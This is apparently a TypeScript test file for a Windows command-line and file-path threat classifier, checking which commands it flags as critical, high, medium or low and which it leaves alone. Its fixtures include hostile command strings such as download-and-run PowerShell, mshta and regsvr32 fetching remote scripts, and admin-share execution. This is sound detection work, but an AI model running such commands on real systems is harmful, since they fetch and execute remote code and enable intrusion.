import { describe, expect, it } from 'vitest'
import { isProxyCommand, judgeCommand } from '../../../core/correlation/command-signs.ts'
import { placeOf } from '../../../core/correlation/hiding-places.ts'

describe('judgeCommand', () => {
  it.each([
    ['%COMSPEC% echo /c b6a1458f396 > \\\\.\\pipe\\334485', 'pipe', 'critical'],
    ['cmd.exe /c echo dzkvqp > \\\\.\\pipe\\dzkvqp', 'pipe', 'critical'],
    ['\\\\127.0.0.1\\ADMIN$\\8f2b1.exe', 'output', 'critical'],
    [
      '%COMSPEC% /Q /c echo whoami ^> \\\\127.0.0.1\\C$\\__output 2^>^&1 > %TEMP%\\execute.bat',
      'output',
      'critical',
    ],
    ['powershell -nop -w hidden -enc SQBFAFgAIAAoAGkAcgBtACAAaAB0AHQAcABzADoA', 'encoded', 'high'],
    ['mshta.exe https://cdn.example.net/a.hta', 'proxy', 'high'],
    ['regsvr32.exe /s /u /i:https://cdn.example.net/a.sct scrobj.dll', 'proxy', 'high'],
    ['powershell -c "iex (irm https://cdn.example.net/a)"', 'download', 'high'],
    ['C:\\Users\\amber\\AppData\\Local\\Temp\\a.exe', 'hidden_place', 'high'],
    ['"C:\\Users\\Public\\svc.exe" -k', 'hidden_place', 'high'],
    ['cmd.exe /c C:\\Windows\\System32\\a.bat', 'script', 'medium'],
    ['wscript.exe C:\\ProgramData\\Vendor\\a.vbs', 'script', 'medium'],
    ['C:\\ProgramData\\Vendor\\updater.exe', 'user_place', 'low'],
  ])('%s: %s, %s', (command, sign, level) => {
    expect(judgeCommand(command)).toMatchObject({ sign, level })
  })

  it.each([
    '"C:\\Program Files\\Vendor\\agent.exe" --service',
    '%SystemRoot%\\system32\\svchost.exe -k netsvcs',
    '\\SystemRoot\\System32\\drivers\\vmci.sys',
    'system32\\DRIVERS\\vmhgfs.sys',
    'C:\\Users\\amber\\AppData\\Local\\Microsoft\\OneDrive\\OneDrive.exe /background',
    'C:\\Users\\amber\\AppData\\Local\\Programs\\Notes\\notes.exe',
    'C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\shell32.dll',
    'rundll32.exe C:\\Windows\\System32\\shell32.dll,Control_RunDLL',
    'msiexec.exe /i C:\\Windows\\Installer\\1a2b.msi /qn',
  ])('finds nothing odd about %s', (command) => {
    expect(judgeCommand(command)).toBeUndefined()
  })

  it('reads megabytes of blanks and quotes in a moment', () => {
    const long = `rundll32 ${'a '.repeat(500_000)}${'"'.repeat(500_000)}`
    const started = process.cpuUsage()
    judgeCommand(long)
    isProxyCommand(long)
    const spent = process.cpuUsage(started)
    expect(spent.user + spent.system).toBeLessThan(2_000_000)
  })
})

describe('placeOf', () => {
  it.each([
    ['C:\\Windows\\Temp\\a.exe', 'hiding'],
    ['C:\\Windows\\Fonts\\a.exe', 'hiding'],
    ['C:\\ProgramData\\a.exe', 'hiding'],
    ['C:\\a.exe', 'hiding'],
    ['C:\\Users\\amber\\AppData\\Roaming\\a.exe', 'hiding'],
    ['C:\\Users\\amber\\AppData\\Roaming\\Vendor\\a.exe', 'elsewhere'],
    ['C:\\Users\\amber\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe', 'user-installed'],
    ['C:\\Windows\\System32\\svchost.exe', 'system'],
    ['C:\\Program Files\\Vendor\\a.exe', 'system'],
    ['D:\\Tools\\Vendor\\a.exe', 'elsewhere'],
    ['System', 'system'],
    ['/usr/bin/python3', 'system'],
    ['/tmp/a', 'elsewhere'],
  ])('%s is %s', (path, place) => {
    expect(placeOf(path)).toBe(place)
  })
})
